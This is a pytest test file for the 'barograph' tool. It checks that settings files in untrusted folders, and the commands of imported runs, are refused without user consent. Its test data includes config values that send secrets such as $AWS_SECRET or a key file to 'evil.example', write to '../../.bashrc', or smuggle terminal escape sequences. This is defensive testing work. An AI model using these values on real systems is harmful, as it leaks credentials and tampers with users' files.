"""Settings files and runs of somebody else start nothing until the user has agreed."""

from __future__ import annotations

import io
import os
import sys
from dataclasses import asdict
from pathlib import Path

import pytest

from barograph.cli.options import settings_from_options
from barograph.cli.record.resume_page import resume
from barograph.cli.replay.rerun_page import rerun
from barograph.cli.trust import TRUST_VARIABLE, check_command_of_run
from barograph.errors import SettingsError
from barograph.model.manifest import Manifest
from barograph.model.origin import Origin
from barograph.model.settings import Settings
from barograph.provenance.gathering import Gathered
from barograph.runs.format.metadata import sealed
from barograph.runs.state.imported import mark_imported
from barograph.runs.state.origins import write_origin
from barograph.store.base import Store
from barograph.store.urls import store_from_url

STARTS = [
    ('notify = ["command:./tell.sh"]', r"runs the command './tell.sh'"),
    ('[[notify]]\nto = "command:touch x"\nevents = ["opened"]', "runs the command 'touch x'"),
    ('notify = ["https://evil.example/$AWS_SECRET"]', "sends a secret to 'https://evil.example/"),
    ('notify = ["https://evil.example/${file:/home/me/key}"]', "sends a secret to"),
    ('rules = ["all", "theirs:Rule"]', "loads the code 'theirs:Rule'"),
    ('[recorder]\nwhen = "theirs:holds"', "loads the code 'theirs:holds'"),
    ('findings_to = "../../.bashrc"', r"writes to '../../.bashrc'"),
]


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Somebody's folder, where the user stands; the user has trusted nothing so far."""
    monkeypatch.delenv(TRUST_VARIABLE, raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    (tmp_path / "theirs").mkdir()
    monkeypatch.chdir(tmp_path / "theirs")
    return tmp_path / "theirs"


def read(config: str | None = None, *, trusts: bool = False) -> Settings:
    return settings_from_options({}, config, trusts=trusts)


@pytest.mark.parametrize(("text", "does"), STARTS)
def test_a_file_that_would_start_something_is_refused(folder: Path, text: str, does: str) -> None:
    (folder / "barograph.toml").write_text(text)
    with pytest.raises(SettingsError, match=does) as raised:
        read()
    assert "--trust" in str(raised.value)
    assert str(folder) in str(raised.value)


@pytest.mark.parametrize("text", [
    'rules = ["all", "-G101"]\nbudget = "2%"', 'notify = ["https://hooks.example/x"]', 'findings_to = "findings.jsonl"',
    "[recorder]\nnorm_above = 1000.0",
])
def test_a_file_that_starts_nothing_is_obeyed(folder: Path, text: str) -> None:
    (folder / "barograph.toml").write_text(text)
    assert read() != Settings()


def test_a_folder_that_was_trusted_once_stays_trusted_and_no_other_does(folder: Path) -> None:
    (folder / "barograph.toml").write_text(STARTS[0][0])
    assert read(trusts=True).notify == read().notify
    (folder / "deeper").mkdir()
    (folder / "deeper" / "barograph.toml").write_text(STARTS[0][0])
    os.chdir(folder / "deeper")
    with pytest.raises(SettingsError, match="not trusted"):
        read()


@pytest.mark.parametrize("named", ["all", "..", os.pathsep.join(["/elsewhere", "."])])
def test_the_environment_can_name_folders_that_are_trusted(
    folder: Path, named: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    (folder / "barograph.toml").write_text(STARTS[0][0])
    monkeypatch.setenv(TRUST_VARIABLE, named)
    assert read().notify
    monkeypatch.setenv(TRUST_VARIABLE, "/elsewhere")
    with pytest.raises(SettingsError, match="not trusted"):
        read()


@pytest.mark.skipif(not hasattr(os, "chown") or os.geteuid() != 0, reason="only root can give a file away")
def test_a_file_that_the_user_has_named_is_refused_only_if_it_is_somebody_elses(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (folder / "ours.toml").write_text(STARTS[0][0])
    assert read("ours.toml").notify
    os.chown(folder / "ours.toml", 12345, 12345)
    with pytest.raises(SettingsError, match="not trusted"):
        read("ours.toml")


def test_a_name_with_a_line_break_is_told_on_one_line(folder: Path) -> None:
    (folder / "barograph.toml").write_text('notify = ["command:true\\n\\u001b[2Jharmless"]')
    with pytest.raises(SettingsError) as raised:
        read()
    assert str(raised.value).isprintable()


@pytest.fixture
def theirs(tmp_path: Path) -> Store:
    """An imported run whose command would leave a file."""
    store = store_from_url(tmp_path / "runs" / "first")
    words = ("sh", "-c", f"touch {tmp_path}/started")
    store.put("run.json", sealed(asdict(Manifest("theirs", "theirs", 1.0, command=words))))
    write_origin(store, 0, Gathered(Origin(command=words, directory=str(tmp_path)), b"", b""))
    mark_imported(store, "theirs.zip", 2.0)
    return store


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def answer(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", Terminal(text))


@pytest.mark.parametrize("said", ["\n", "n\n", "", "no\n"])
def test_the_command_of_an_imported_run_is_shown_and_not_started_without_a_yes(
    theirs: Store, said: str, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    answer(said, monkeypatch)
    with pytest.raises(SettingsError, match="Nothing was started"):
        check_command_of_run(theirs, ["sh", "-c", "touch a\nb"], trusts=False)
    assert "  sh -c 'touch a\\nb'\n" in capfd.readouterr().err


def test_with_a_yes_it_is(theirs: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    answer("y\n", monkeypatch)
    check_command_of_run(theirs, ["true"], trusts=False)


def test_where_nobody_can_be_asked_it_is_refused_unless_it_is_trusted(
    theirs: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO("y\n"))
    with pytest.raises(SettingsError, match="there is no terminal to confirm"):
        check_command_of_run(theirs, ["true"], trusts=False)
    check_command_of_run(theirs, ["true"], trusts=True)
    monkeypatch.setenv(TRUST_VARIABLE, str(tmp_path / "runs"))
    check_command_of_run(theirs, ["true"], trusts=False)


def test_a_run_of_ones_own_is_not_asked_about(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO())
    store = store_from_url(tmp_path / "mine")
    store.put("run.json", b"")
    check_command_of_run(store, ["true"], trusts=False)


def test_neither_rerun_nor_resume_starts_it(theirs: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO())
    with pytest.raises(SettingsError, match="This run was imported"):
        rerun(theirs.url, [], to=None, out=None, environment=False, data_changed=False, trusts=False, live=False,
              as_json=False)
    with pytest.raises(SettingsError, match="This run was imported"):
        resume(theirs.url, [], inexact=False, own=True, trusts=False, live=False, as_json=False)
    assert not (tmp_path / "started").exists()
